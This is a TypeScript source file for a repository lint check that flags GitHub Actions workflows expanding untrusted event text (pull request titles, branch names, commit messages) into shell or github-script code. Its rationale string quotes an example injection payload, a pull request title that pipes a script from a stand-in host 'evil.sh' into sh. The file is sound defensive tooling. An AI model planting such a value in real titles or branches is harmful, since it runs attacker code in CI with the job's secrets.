import { defineCheck } from '../types';
import { actionName, listWorkflows } from './_workflows';

/** Contexts whose text the author of an issue, a comment, a branch or a commit chooses. */
const UNTRUSTED =
  /^github\.(head_ref|event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|discussion\.(title|body)|pages\.[^.]+\.page_name|commits\.[^.]+\.(message|author\.(email|name))|head_commit\.(message|author\.(email|name))|workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(email|name)))|workflow_run\.pull_requests\.[^.]+\.head\.ref))$/;
const EXPRESSION = /\$\{\{\s*([^}]*?)\s*\}\}/g;

export default defineCheck({
  id: 'ci/script-injection',
  target: 'repository',
  meta: {
    title: 'Untrusted event text is expanded into a script',
    category: 'security',
    severity: 'error',
    rationale:
      'The runner pastes `${{ … }}` into the script before the shell reads it. A pull request titled `a"; curl evil.sh | sh; echo "` or a branch named `$(…)` then runs as code in the job, with its token and secrets. GitHub\'s security hardening guide lists exactly these contexts.',
    remediation:
      'Pass the value through an environment variable and quote it: `env: { TITLE: ${{ github.event.pull_request.title }} }` then `run: echo "$TITLE"`; in actions/github-script read `context.payload` instead of expanding it into the script.',
    messages: {
      injection: '{{file}} job "{{job}}" expands {{expression}} into a {{where}}: a crafted value runs as code; pass it through env: and quote it',
    },
  },
  check(ctx) {
    const workflows = listWorkflows(ctx);
    if (!workflows.length) return ctx.notApplicable();
    for (const w of workflows) {
      for (const job of w.jobs) {
        for (const step of job.steps) {
          const script = step.uses && actionName(step.uses) === 'actions/github-script' ? step.with.script : undefined;
          const targets = [
            { text: step.run, loc: step.runLoc, where: 'run: script' },
            { text: typeof script === 'string' ? script : undefined, loc: step.withNode?.entries.get('script')?.loc, where: 'github-script script' },
          ];
          for (const t of targets) {
            if (!t.text || !t.loc) continue;
            const seen = new Set<string>();
            for (const m of t.text.matchAll(EXPRESSION)) {
              const expression = m[1];
              if (!UNTRUSTED.test(expression) || seen.has(expression)) continue;
              seen.add(expression);
              ctx.report({ messageId: 'injection', data: { file: w.file, job: job.id, expression: `\${{ ${expression} }}`, where: t.where }, at: t.loc });
            }
          }
        }
      }
    }
  },
});
